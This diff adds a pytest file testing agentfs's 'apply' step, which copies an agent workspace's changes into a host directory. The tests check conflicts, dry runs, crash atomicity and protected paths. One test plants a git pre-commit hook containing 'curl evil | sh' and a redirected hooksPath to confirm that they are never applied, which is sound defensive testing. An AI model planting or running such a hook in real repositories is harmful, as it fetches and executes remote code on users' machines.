@@ -1,0 +1,230 @@
+"""Carrying a workspace's changes back into its base (``agentfs.overlay.apply``): the conflict
+check that writes nothing, ``ours`` and ``theirs``, what is never applied, modes, symlinks and
+times, the change list empty afterwards, and a run killed with SIGKILL that leaves every host
+file old or new and is finished by the next."""
+
+from __future__ import annotations
+
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+import agentfs
+from agentfs.overlay import Conflict, apply, changes
+from tests.clirun import run
+
+
+def tree_of(root: Path) -> dict[str, bytes | str]:
+    """Every file's bytes and every symlink's target below ``root``, .git's hooks aside."""
+    found: dict[str, bytes | str] = {}
+    for path in sorted(root.rglob("*")):
+        key = str(path.relative_to(root))
+        if path.is_symlink():
+            found[key] = os.readlink(path)
+        elif path.is_file():
+            found[key] = path.read_bytes()
+    return found
+
+
+@pytest.fixture
+def host(tmp_path: Path) -> Path:
+    root = tmp_path / "host"
+    (root / "src").mkdir(parents=True)
+    (root / "src" / "app.py").write_text("app\n")
+    (root / "src" / "old.py").write_text("old\n")
+    (root / "README.md").write_text("readme\n")
+    (root / "run.sh").write_text("#!/bin/sh\n")
+    (root / "run.sh").chmod(0o755)
+    os.symlink("src/app.py", root / "link")
+    (root / ".git" / "hooks").mkdir(parents=True)
+    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    return root
+
+
+@pytest.fixture
+def ws(tmp_path: Path, host: Path) -> agentfs.Workspace:
+    workspace = agentfs.open(tmp_path / "ws.db", base=host)
+    yield workspace
+    workspace.close()
+
+
+def change_everything(ws: agentfs.Workspace) -> None:
+    ws.write("/src/app.py", "app v2\n")
+    ws.write("/src/new/module.py", "new\n", parents=True)
+    ws.remove("/README.md")
+    ws.rename("/src/old.py", "/src/renamed.py")
+    ws.chmod("/run.sh", 0o700)
+    ws.remove("/link")
+    ws.symlink("README.md", "/link")
+
+
+def test_apply_writes_every_change_and_the_list_is_empty_after(
+    ws: agentfs.Workspace, host: Path
+) -> None:
+    change_everything(ws)
+    done = apply(ws)
+    assert done.conflicts == [] and not done.dry_run
+    assert sorted(done.written) == [
+        "/link",
+        "/run.sh",
+        "/src/app.py",
+        "/src/new/module.py",
+        "/src/renamed.py",
+    ]
+    assert sorted(done.deleted) == ["/README.md", "/src/old.py"]
+    assert tree_of(host) == {
+        ".git/HEAD": b"ref: refs/heads/main\n",
+        "link": "README.md",
+        "run.sh": b"#!/bin/sh\n",
+        "src/app.py": b"app v2\n",
+        "src/new/module.py": b"new\n",
+        "src/renamed.py": b"old\n",
+    }
+    assert (host / "run.sh").stat().st_mode & 0o777 == 0o700
+    assert (host / "src" / "app.py").stat().st_mtime_ns == ws.stat("/src/app.py").st_mtime_ns
+    assert changes(ws) == []
+    assert not list(host.rglob(".agentfs-apply-*"))  # no temporary file left
+    assert ws.conn.execute("SELECT count(*) FROM ws_apply").get == 0
+
+
+def test_a_dry_run_writes_nothing(ws: agentfs.Workspace, host: Path) -> None:
+    change_everything(ws)
+    before = tree_of(host)
+    done = apply(ws, dry_run=True)
+    assert done.dry_run and "/src/app.py" in done.written and "/README.md" in done.deleted
+    assert tree_of(host) == before
+    assert len(changes(ws)) == 6
+
+
+def test_a_host_change_is_a_conflict_and_nothing_is_written(
+    ws: agentfs.Workspace, host: Path
+) -> None:
+    change_everything(ws)
+    (host / "src" / "app.py").write_text("the user's edit\n")
+    (host / "src" / "new").mkdir()
+    (host / "src" / "new" / "module.py").write_text("the user's new file\n")
+    (host / "src" / "old.py").unlink()
+    before = tree_of(host)
+    done = apply(ws)
+    assert done.conflicts == [
+        Conflict("/src/app.py", "changed on the host since the workspace read it"),
+        Conflict(
+            "/src/new/module.py", "created on the host since the workspace read its directory"
+        ),
+    ]
+    assert tree_of(host) == before  # not one byte written
+    assert run("apply", str(ws.path)).exit_code == 1
+
+
+def test_ours_and_theirs_resolve_a_conflict(ws: agentfs.Workspace, host: Path) -> None:
+    ws.write("/src/app.py", "ours\n")
+    ws.write("/README.md", "ours too\n")
+    (host / "src" / "app.py").write_text("theirs\n")
+    (host / "README.md").write_text("theirs too\n")
+    done = apply(ws, ours=["/src/app.py"], theirs=["/README.md"])
+    assert done.conflicts == [] and done.taken == ["/README.md"]
+    assert (host / "src" / "app.py").read_text() == "ours\n"
+    assert (host / "README.md").read_text() == "theirs too\n"
+    assert ws.read("/README.md") == b"theirs too\n"  # the host's side came in
+    assert changes(ws) == []
+
+
+def test_only_the_paths_asked_for(ws: agentfs.Workspace, host: Path) -> None:
+    change_everything(ws)
+    done = apply(ws, ["/src"])
+    assert sorted(done.written + done.deleted) == [
+        "/src/app.py",
+        "/src/new/module.py",
+        "/src/old.py",
+        "/src/renamed.py",
+    ]
+    assert (host / "README.md").exists()
+    assert [c.path for c in changes(ws)] == ["/README.md", "/link", "/run.sh"]
+
+
+def test_git_hooks_config_and_the_workspaces_own_directory_are_never_applied(
+    ws: agentfs.Workspace, host: Path
+) -> None:
+    ws.write("/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+    ws.write("/.git/config", "[core]\n\thooksPath = /tmp\n")
+    ws.write("/.git/HEAD", "ref: refs/heads/agent\n")
+    ws.write("/.agentfs/planted", "x\n", parents=True)
+    done = apply(ws, include_git=True)
+    assert sorted(p for p, _ in done.skipped) == [
+        "/.agentfs/planted",
+        "/.git/config",
+        "/.git/hooks/pre-commit",
+    ]
+    assert done.written == ["/.git/HEAD"]  # the rest of .git only when asked
+    assert not (host / ".git" / "hooks" / "pre-commit").exists()
+    assert not (host / ".git" / "config").exists() and not (host / ".agentfs").exists()
+    ws.write("/.git/HEAD", "ref: refs/heads/other\n")
+    assert apply(ws).written == []  # without include_git: left out
+    assert (host / ".git" / "HEAD").read_text() == "ref: refs/heads/agent\n"
+
+
+def test_the_cli_applies_and_reports(ws: agentfs.Workspace, host: Path) -> None:
+    ws.write("/src/app.py", "cli\n")
+    ws.close()
+    db = str(ws.path)
+    dry = run("apply", db, "--dry-run")
+    assert dry.exit_code == 0 and dry.output == "would write   /src/app.py\n"
+    done = run("apply", db)
+    assert done.exit_code == 0 and done.output == "write   /src/app.py\n"
+    assert (host / "src" / "app.py").read_text() == "cli\n"
+    assert run("apply", db).output == "no changes to apply\n"
+
+
+# --- a run killed part-way ----------------------------------------------------------------------
+
+_APPLY = """
+import sys
+sys.path[:0] = sys.argv[2:]
+import agentfs
+from agentfs.overlay import apply
+with agentfs.open(sys.argv[1]) as ws:
+    print("started", flush=True)
+    apply(ws)
+"""
+
+
+def test_a_killed_apply_leaves_old_or_new_files_and_a_rerun_finishes(tmp_path: Path) -> None:
+    host = tmp_path / "host"
+    host.mkdir()
+    for i in range(300):
+        (host / f"f{i:03d}.txt").write_text(f"old {i}\n" * 200)
+    old = tree_of(host)
+    db = tmp_path / "ws.db"
+    with agentfs.open(db, base=host) as ws:
+        for i in range(300):
+            ws.write(f"/f{i:03d}.txt", f"new {i}\n" * 300)
+        new = {name: ws.read("/" + name) for name in old}
+    root = str(Path(__file__).parent.parent.parent)
+    mixed = False
+    for attempt in range(14):  # longer and longer runs, until one is cut in the middle
+        if mixed:
+            break
+        delay = 0.01 * 1.5**attempt
+        proc = subprocess.Popen(
+            [sys.executable, "-c", _APPLY, str(db), root], stdout=subprocess.PIPE, text=True
+        )
+        assert proc.stdout is not None and proc.stdout.readline() == "started\n"
+        time.sleep(delay)
+        proc.send_signal(signal.SIGKILL)
+        proc.wait()
+        now = {k: v for k, v in tree_of(host).items() if not k.startswith(".agentfs-apply-")}
+        assert set(now) == set(old)  # every file is there: a rename replaced it whole
+        assert all(now[name] in (old[name], new[name]) for name in old)  # never partial
+        written = sum(now[name] == new[name] for name in old)
+        mixed = mixed or 0 < written < len(old)
+    assert mixed  # at least one kill landed in the middle of the run
+    with agentfs.open(db) as ws:
+        done = apply(ws)
+        assert done.conflicts == []  # what the killed runs wrote is recognised, not a conflict
+        assert changes(ws) == []
+    assert tree_of(host) == new  # and the temporary files a kill left are gone
